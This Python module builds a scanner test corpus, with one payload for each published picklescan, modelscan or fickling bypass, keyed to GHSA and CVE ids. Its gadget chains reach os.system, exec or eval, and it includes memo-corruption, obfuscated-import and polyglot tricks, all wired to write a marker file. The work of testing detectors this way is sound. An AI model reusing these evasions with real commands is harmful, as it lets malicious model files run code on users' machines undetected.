"""One harmless sample per published scanner bypass (picklescan, modelscan, fickling advisories,
CVEs, and public write-ups). ``advisory`` names the GHSA / CVE id or the public issue.

Facts come from the advisories; each payload is rewritten to only create the marker file.
Advisories whose gadget no longer exists in this environment (torch.utils.bottleneck,
torch._inductor.codecache.compile_file, torch._dynamo GuardBuilder.get's string eval) are not
reproduced. Container advisories (CVE-2025-1889/1944/1945/10155/10156) live in ``containers``.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from . import Sample
from ._asm import (
    BUILD,
    MARK,
    OBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    Ops,
    call,
    glob,
    lit,
    pickle_bytes,
    sglob,
    string0,
    tup,
)
from ._common import (
    code,
    from_bytes,
    raw,
    replace_member,
    shell,
    small_state_dict,
    torch_zip_bytes,
)

M = "malicious"
S = "suspicious"

_PIP_ARGS = ["list", "--isolated", "--disable-pip-version-check", "--no-input", "--log"]


def _expr(marker: Path) -> str:
    """An expression (for eval-based gadgets) that writes the marker."""
    return code(marker)


def _namespace(**attrs: object) -> Ops:
    return call(sglob("types", "SimpleNamespace")) + lit(attrs) + BUILD


def _inner_pickle(marker: Path) -> bytes:
    return pickle_bytes(call(glob("os", "system"), shell(marker)), 2)


def _runpy_polyglot(out_dir: Path, marker: Path) -> bytes:
    """A pickle that calls runpy.run_path on its own file, which is also a zip with __main__.py."""
    path = out_dir / "adv-runpy-run-path-polyglot.pkl"
    head = pickle_bytes(call(glob("runpy", "run_path"), str(path)), 2)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("__main__.py", code(marker) + "\n")
    return head + buffer.getvalue()


def _nullifai(_out: Path, marker: Path) -> bytes:
    def broken(_old: bytes) -> bytes:
        return b"\x80\x02" + bytes(call(glob("os", "system"), shell(marker))) + b"\xff\xfe broken"

    return replace_member(torch_zip_bytes(small_state_dict()), "/data.pkl", broken)


def _sample(name: str, advisory: str, description: str, body, expected: str = M, **kw) -> Sample:  # type: ignore[no-untyped-def]
    return raw(f"adv-{name}", description, body, expected, advisory=advisory, **kw)


SAMPLES: list[Sample] = [
    # ---------------------------------------------------------------- picklescan: gadgets
    _sample(
        "pip-main",
        "CVE-2025-1716",
        "pip.main(args) was not an unsafe global; the harmless variant runs 'pip list --log "
        "<marker>'.",
        lambda m: call(glob("pip", "main"), [*_PIP_ARGS, str(m)]),
    ),
    _sample(
        "pkgutil-resolve-name",
        "GHSA-vvpj-8cmc-gx39",
        "pkgutil.resolve_name('os:system') reaches any blocked callable by string.",
        lambda m: call(call(glob("pkgutil", "resolve_name"), "os:system"), shell(m)),
    ),
    _sample(
        "uuid-get-command-stdout",
        "GHSA-g38g-8gr9-h9xp",
        "uuid._get_command_stdout(cmd, *args) runs a PATH-resolved program.",
        lambda m: call(glob("uuid", "_get_command_stdout"), "sh", "-c", shell(m)),
    ),
    _sample(
        "osx-support-read-output",
        "GHSA-g38g-8gr9-h9xp",
        "_osx_support._read_output(cmd) runs a shell command with os.system (importable on Linux).",
        lambda m: call(glob("_osx_support", "_read_output"), shell(m)),
    ),
    _sample(
        "imaplib-imap4-stream",
        "GHSA-g38g-8gr9-h9xp",
        "imaplib.IMAP4_stream(cmd) starts the 'IMAP tunnel' with subprocess.Popen(cmd, "
        "shell=True).",
        lambda m: call(glob("imaplib", "IMAP4_stream"), shell(m)),
    ),
    _sample(
        "profile-run",
        "GHSA-7wx9-6375-f5wh",
        "profile.run(src) execs source under the pure-Python profiler.",
        lambda m: call(glob("profile", "run"), code(m)),
    ),
    _sample(
        "cprofile-run",
        "GHSA-49gj-c84q-6qm9",
        "cProfile.run(src) execs source under the C profiler.",
        lambda m: call(glob("cProfile", "run"), code(m)),
    ),
    _sample(
        "cprofile-runctx",
        "GHSA-9w88-8rmg-7g2p",
        "cProfile.runctx(src, None, None).",
        lambda m: call(glob("cProfile", "runctx"), code(m), None, None),
    ),
    _sample(
        "profile-profile-run",
        "GHSA-x696-vm39-cp64",
        "profile.Profile.run(Profile(), src) through the method.",
        lambda m: call(sglob("profile", "Profile.run"), call(sglob("profile", "Profile")), code(m)),
        proto=4,
    ),
    _sample(
        "profile-profile-runctx",
        "GHSA-6vqj-c2q5-j97w",
        "profile.Profile.runctx(Profile(), src, {}, {}).",
        lambda m: call(
            sglob("profile", "Profile.runctx"), call(sglob("profile", "Profile")), code(m), {}, {}
        ),
        proto=4,
    ),
    _sample(
        "trace-run",
        "GHSA-5qwp-399c-mjwf",
        "trace.Trace.run(Trace(count=0, trace=0), src).",
        lambda m: call(sglob("trace", "Trace.run"), call(sglob("trace", "Trace"), 0, 0), code(m)),
        proto=4,
    ),
    _sample(
        "trace-runctx",
        "GHSA-g344-hcph-8vgg",
        "trace.Trace.runctx(Trace(0, 0), src, {}, {}).",
        lambda m: call(
            sglob("trace", "Trace.runctx"), call(sglob("trace", "Trace"), 0, 0), code(m), {}, {}
        ),
        proto=4,
    ),
    _sample(
        "doctest-debug-script",
        "GHSA-fqq6-7vqf-w3fg",
        "doctest.debug_script(src, pm=True) execs the script (the debugger only starts on error).",
        lambda m: call(glob("doctest", "debug_script"), code(m), True),
    ),
    _sample(
        "code-interactiveinterpreter-runcode",
        "GHSA-cj3c-v495-4xqh",
        "code.InteractiveInterpreter.runcode(interp, src) execs in the interpreter's locals.",
        lambda m: call(
            sglob("code", "InteractiveInterpreter.runcode"),
            call(sglob("code", "InteractiveInterpreter")),
            code(m),
        ),
        proto=4,
    ),
    _sample(
        "idlelib-pyshell-runcommand",
        "GHSA-j343-8v2j-ff7w",
        "idlelib.pyshell.ModifiedInterpreter.runcommand(self, src) with a SimpleNamespace self.",
        lambda m: call(
            sglob("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
            _namespace(tkconsole=_namespace(executing=False), rpcclt=None, locals={}),
            code(m),
        ),
        proto=4,
    ),
    _sample(
        "idlelib-run-executive-runcode",
        "GHSA-m869-42cg-3xwr",
        "idlelib.run.Executive.runcode(self, src) with a SimpleNamespace self.",
        lambda m: call(sglob("idlelib.run", "Executive.runcode"), _namespace(locals={}), code(m)),
        proto=4,
    ),
    _sample(
        "idlelib-autocomplete-get-entity",
        "GHSA-6w4w-5w54-rjvr",
        "idlelib.autocomplete.AutoComplete.get_entity(self, expr) evals the expression.",
        lambda m: call(sglob("idlelib.autocomplete", "AutoComplete.get_entity"), None, _expr(m)),
        proto=4,
    ),
    _sample(
        "idlelib-autocomplete-fetch-completions",
        "GHSA-7cq8-mj8x-j263",
        "AutoComplete().fetch_completions(expr, ATTRS) evals the expression to list its "
        "attributes.",
        lambda m: call(
            sglob("idlelib.autocomplete", "AutoComplete.fetch_completions"),
            call(sglob("idlelib.autocomplete", "AutoComplete")),
            _expr(m),
            0,
        ),
        proto=4,
    ),
    _sample(
        "idlelib-calltip-get-entity",
        "GHSA-9xph-j2h6-g47v",
        "idlelib.calltip.get_entity(expr) evals the expression.",
        lambda m: call(glob("idlelib.calltip", "get_entity"), _expr(m)),
    ),
    _sample(
        "idlelib-calltip-fetch-tip",
        "GHSA-8r4j-24qv-fmq9",
        "idlelib.calltip.Calltip.fetch_tip({}, expr) falls back to get_entity (eval).",
        lambda m: call(sglob("idlelib.calltip", "Calltip.fetch_tip"), {}, _expr(m)),
        proto=4,
    ),
    _sample(
        "idlelib-debugobj-settext",
        "GHSA-3vg9-h568-4w9m",
        "idlelib.debugobj.ObjectTreeItem.SetText({}, expr) evals the text.",
        lambda m: call(sglob("idlelib.debugobj", "ObjectTreeItem.SetText"), {}, _expr(m)),
        proto=4,
    ),
    _sample(
        "lib2to3-make-label",
        "GHSA-p9w7-82w4-7q8m",
        "lib2to3.pgen2.pgen.ParserGenerator.make_label evals a quoted label ('\"\"+expr').",
        lambda m: call(
            sglob("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
            None,
            _namespace(labels=[]),
            '""+' + _expr(m),
        ),
        proto=4,
    ),
    _sample(
        "lib2to3-grammar-loads",
        "GHSA-f54q-57x4-jg88",
        "lib2to3.pgen2.grammar.Grammar.loads(self, bytes) is pickle.loads on nested bytes.",
        lambda m: call(
            sglob("lib2to3.pgen2.grammar", "Grammar.loads"), _namespace(), _inner_pickle(m)
        ),
        proto=4,
    ),
    _sample(
        "ensurepip-run-pip",
        "GHSA-xp4f-hrf8-rxw7",
        "ensurepip._run_pip(args) runs pip in a subprocess; harmless 'pip list --log <marker>'.",
        lambda m: call(glob("ensurepip", "_run_pip"), [*_PIP_ARGS, str(m)]),
    ),
    _sample(
        "asyncio-unix-subprocess-transport-start",
        "CVE-2025-10157",
        "asyncio.unix_events._UnixSubprocessTransport._start(self, cmd, shell=True, ...): a "
        "submodule of a blocked package (picklescan matched module names exactly; "
        "GHSA-f7qq-56ww-84cr).",
        lambda m: call(
            sglob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
            _namespace(),
            shell(m),
            True,
            None,
            None,
            None,
            0,
        ),
        proto=4,
    ),
    _sample(
        "distutils-write-file",
        "GHSA-m273-6v24-x4m4",
        "distutils.file_util.write_file(path, lines) writes any file.",
        lambda m: call(glob("distutils.file_util", "write_file"), str(m), ["x"]),
    ),
    _sample(
        "pydoc-locate-methodcaller",
        "GHSA-84r2-jw7c-4r5q",
        "operator.methodcaller('system', cmd)(pydoc.locate('os')).",
        lambda m: call(
            call(glob("operator", "methodcaller"), "system", shell(m)),
            call(glob("pydoc", "locate"), "os"),
        ),
    ),
    _sample(
        "numpy-f2py-getlincoef",
        "GHSA-r8g5-cgf2-4m4m",
        "numpy.f2py.crackfortran.getlincoef(expr, []) evals the expression.",
        lambda m: call(glob("numpy.f2py.crackfortran", "getlincoef"), _expr(m), []),
    ),
    _sample(
        "numpy-f2py-myeval",
        "CVE-2025-71365",
        "numpy.f2py.crackfortran.myeval(expr) is eval that only checks the result type afterwards.",
        lambda m: call(glob("numpy.f2py.crackfortran", "myeval"), _expr(m)),
    ),
    _sample(
        "numpy-testing-runstring",
        "CVE-2025-71355",
        "numpy.testing._private.utils.runstring(src, dict) is exec.",
        lambda m: call(glob("numpy.testing._private.utils", "runstring"), code(m), {}),
    ),
    _sample(
        "timeit-timeit",
        "CVE-2025-71351",
        "timeit.timeit('', src): the payload is the setup statement.",
        lambda m: call(glob("timeit", "timeit"), "", code(m)),
    ),
    _sample(
        "operator-c-methodcaller",
        "GHSA-955r-x9j8-7rhh",
        "_operator.methodcaller (the C module name) applied to builtins.__import__('os').",
        lambda m: call(
            call(glob("_operator", "methodcaller"), "system", shell(m)),
            call(glob("builtins", "__import__"), "os"),
        ),
        proto=None,
    ),
    _sample(
        "operator-c-attrgetter",
        "GHSA-46h3-79wf-xr6c",
        "_operator.attrgetter('system') applied to builtins.__import__('os').",
        lambda m: call(
            call(
                call(glob("_operator", "attrgetter"), "system"),
                call(glob("builtins", "__import__"), "os"),
            ),
            shell(m),
        ),
        proto=None,
    ),
    _sample(
        "io-fileio-write",
        "GHSA-9726-w42j-3qjr",
        "_io.FileIO(path, 'w') opens any file for writing without builtins.open.",
        lambda m: call(glob("_io", "FileIO"), str(m), "w"),
    ),
    _sample(
        "logging-filehandler",
        "GHSA-m7j5-r2p5-c39r",
        "logging.FileHandler(path) creates (or appends to) any file.",
        lambda m: call(glob("logging", "FileHandler"), str(m)),
    ),
    _sample(
        "torch-collect-env-run",
        "GHSA-f745-w6jp-hpxx",
        "torch.utils.collect_env.run(cmd) runs a shell command.",
        lambda m: call(glob("torch.utils.collect_env", "run"), shell(m)),
    ),
    _sample(
        "torch-collect-env-run-and-read-all",
        "GHSA-jhph-76pp-mggw",
        "torch.utils.collect_env.run_and_read_all(run, cmd).",
        lambda m: call(
            glob("torch.utils.collect_env", "run_and_read_all"),
            glob("torch.utils.collect_env", "run"),
            shell(m),
        ),
    ),
    _sample(
        "torch-datapipes-basichandlers",
        "GHSA-h3qp-7fh3-f8h4",
        "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', bytes) is pickle.loads.",
        lambda m: call(
            glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
            "pickle",
            _inner_pickle(m),
        ),
    ),
    _sample(
        "torch-jit-execwrapper",
        "GHSA-vr7h-p6mm-wpmh",
        "torch.jit.unsupported_tensor_ops.execWrapper(src, {}, {}) is exec.",
        lambda m: call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), code(m), {}, {}),
    ),
    _sample(
        "torch-configmodule-load-config",
        "GHSA-vv6j-3g6g-2pvj",
        "torch.utils._config_module.ConfigModule.load_config({}, bytes) is pickle.loads.",
        lambda m: call(
            sglob("torch.utils._config_module", "ConfigModule.load_config"), {}, _inner_pickle(m)
        ),
        proto=4,
    ),
    _sample(
        "torch-shapeenv-evaluate-guards",
        "GHSA-f4x7-rfwp-v3xw",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression({}, expr, []) "
        "evals.",
        lambda m: call(
            sglob("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
            {},
            _expr(m),
            [],
        ),
        proto=4,
    ),
    # ---------------------------------------------------------------- picklescan: parsing
    _sample(
        "stack-global-string-opcodes",
        "GHSA-9gvj-pp9x-gcfr",
        "STACK_GLOBAL fed by protocol-0 STRING opcodes at the very start (no PROTO), which the "
        "scanner's argument tracking did not consider.",
        lambda m: (
            string0("os")
            + string0("system")
            + STACK_GLOBAL
            + string0(shell(m))
            + Ops(b"\x85")
            + REDUCE
        ),
        proto=None,
    ),
    _sample(
        "invalid-memo-keyerror",
        "https://github.com/mmaitre314/picklescan/pull/52",
        "os.system runs first; a later STACK_GLOBAL reads a memo slot that was never set, so the "
        "loader raises KeyError after the payload and a scanner that crashes reports nothing.",
        lambda m: (
            call(glob("os", "system"), shell(m))
            + POP
            + Ops(b"\x8c\x02os\x94")
            + Ops(b"h\x03h\x00")
            + STACK_GLOBAL
            + lit(0x42)
        ),
        proto=4,
    ),
    _sample(
        "memo-type-confusion",
        "https://github.com/mmaitre314/picklescan/pull/52",
        "os.system runs first; STACK_GLOBAL then receives an int from the memo and the loader "
        "raises.",
        lambda m: (
            call(glob("os", "system"), shell(m))
            + POP
            + lit(42)
            + Ops(b"\x94")
            + Ops(b"\x8c\x02os\x94")
            + Ops(b"h\x00h\x01")
            + STACK_GLOBAL
            + lit(0x42)
        ),
        proto=4,
    ),
    _sample(
        "build-attribute-names",
        "https://github.com/protectai/modelscan/issues/85",
        "BUILD slot state stores 'os'/'system' as attributes of numpy.prod; GLOBAL 'numpy prod.a' "
        "and 'numpy prod.b' then fetch them as STACK_GLOBAL operands: the callable's name is never "
        "a literal anywhere, so only the opcode pattern can be flagged.",
        lambda m: (
            glob("numpy", "prod")
            + tup(None, {"a": "os", "b": "system"})
            + BUILD
            + POP
            + glob("numpy", "prod.a")
            + glob("numpy", "prod.b")
            + STACK_GLOBAL
            + tup(shell(m))
            + REDUCE
        ),
        S,
        proto=4,
    ),
    _sample(
        "import-module-str-join",
        "https://github.com/protectai/modelscan/issues/331",
        "importlib.import_module and builtins.getattr build 'os' with str.join from single "
        "characters, then fetch system: no dangerous name appears as one string.",
        lambda m: call(
            call(
                glob("builtins", "getattr"),
                call(
                    glob("importlib", "import_module"),
                    call(
                        call(
                            glob("builtins", "getattr"),
                            call(
                                glob("builtins", "getattr"),
                                call(glob("importlib", "import_module"), "builtins"),
                                "str",
                            ),
                            "join",
                        ),
                        "",
                        ["o", "s"],
                    ),
                ),
                "".join(["sys", "tem"]),
            ),
            shell(m),
        ),
    ),
    # ---------------------------------------------------------------- fickling
    _sample(
        "pty-spawn-stack-global",
        "GHSA-r7v6-mfhq-g3m2",
        "pty.spawn through STACK_GLOBAL with its result left unused.",
        lambda m: call(sglob("pty", "spawn"), ["/bin/sh", "-c", shell(m)]),
        proto=4,
    ),
    _sample(
        "cprofile-run-stack-global",
        "GHSA-p523-jq9w-64x9",
        "cProfile.run through STACK_GLOBAL.",
        lambda m: call(sglob("cProfile", "run"), code(m)),
        proto=4,
    ),
    _sample(
        "obj-result-popped",
        "GHSA-mxhj-88fx-4pcv",
        "An OBJ call whose result is immediately POPped, followed by an innocuous None.",
        lambda m: MARK + sglob("os", "system") + lit(shell(m)) + OBJ + POP + Ops(b"N"),
        proto=4,
    ),
    _sample(
        "dotted-attr-via-stdlib-module",
        "GHSA-5j3x-jp52-966f",
        "STACK_GLOBAL 'pathlib' / 'os.system': a dotted name walks from a harmless module to "
        "os.system.",
        lambda m: call(sglob("pathlib", "os.system"), shell(m)),
        proto=4,
    ),
    Sample(
        "adv-runpy-run-path-polyglot",
        "runpy.run_path on the artifact itself: the file is a pickle followed by a zip holding "
        "__main__.py, so one file is both the payload trigger and the code it runs.",
        lambda out, m: _write(out / "adv-runpy-run-path-polyglot.pkl", _runpy_polyglot(out, m)),
        "pickle",
        M,
        "GHSA-wfq2-52f7-7qvj",
    ),
    # ---------------------------------------------------------------- write-ups
    from_bytes(
        "adv-nullifai-broken-datapkl",
        "nullifAI (ReversingLabs, 2025): a torch zip whose data.pkl runs the payload first and is "
        "broken right after it; torch raises after the payload ran, scanners report a parse error.",
        _nullifai,
        M,
        loader="torch",
        ext=".pt",
        advisory="https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
    ),
]


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path
